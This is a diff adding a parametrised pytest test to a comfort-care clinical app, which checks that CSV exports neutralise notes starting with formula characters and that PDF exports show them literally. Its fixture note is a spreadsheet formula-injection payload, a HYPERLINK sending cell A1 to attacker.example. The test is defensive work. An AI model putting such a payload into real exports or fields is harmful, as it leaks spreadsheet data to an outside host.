@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 
+import pytest
 from litestar import Litestar
 from litestar.handlers import HTTPRouteHandler
 from pypdf import PdfReader
@@ -14,6 +15,7 @@ from server import db
 from server.audit.models import AuditEvent
 from server.auth.models import Role
 from server.clock import SetClock
+from server.comfort_log.exports import FORMULA_STARTS
 from server.settings import Settings
 from tests.clock import set_clock
 from tests.conftest import SIGNABLE, ready_session, text_of
@@ -155,3 +157,30 @@ def test_hospice_can_write_nothing_anywhere(app: Litestar) -> None:
                 continue
             allowed = set().union(*(getattr(g, "allowed_roles", set()) for g in handler.guards or []))
             assert Role.hospice not in allowed, f"{route.path} lets hospice write"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+async def test_a_note_that_looks_like_a_formula_is_exported_as_text(
+    sign_in_as, world: World, start: str
+) -> None:  # type: ignore[no-untyped-def]
+    therapist, hospice = await sign_in_as("therapist"), await sign_in_as("hospice")
+    patient = world.patient_ids["comfort"]
+    note = f'{start}HYPERLINK("http://attacker.example/?"&A1,"Click")'
+    session_id = await ready_session(therapist, patient)
+    for phase, value in (("pre", 6), ("post", 3)):
+        await therapist.post(
+            f"/api/sessions/{session_id}/scores",
+            json={"client_id": f"csv-{phase}-{ord(start):03d}", "phase": phase, "value": value},
+        )
+    signed = await therapist.post(f"/api/sessions/{session_id}/sign", json={**SIGNABLE, "note": note})
+    assert signed.status_code == 200, signed.text
+    exported = (await hospice.get(f"/comfort-care/{patient}/log.csv")).text
+    cells = next(csv.DictReader(io.StringIO(exported)))
+    assert not cells["note"].startswith(FORMULA_STARTS), "a leading quote keeps it text in a spreadsheet"
+    assert cells["note"].removeprefix("'") == note.strip() and cells["change"] == "-3", "numbers stay numbers"
+    if start == "=":
+        pdf = (await hospice.get(f"/comfort-care/{patient}/log.pdf")).content
+        text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
+        assert '=HYPERLINK("http://attacker.example/?"&A1,"Click")' in " ".join(text.split()), (
+            "shown literally"
+        )
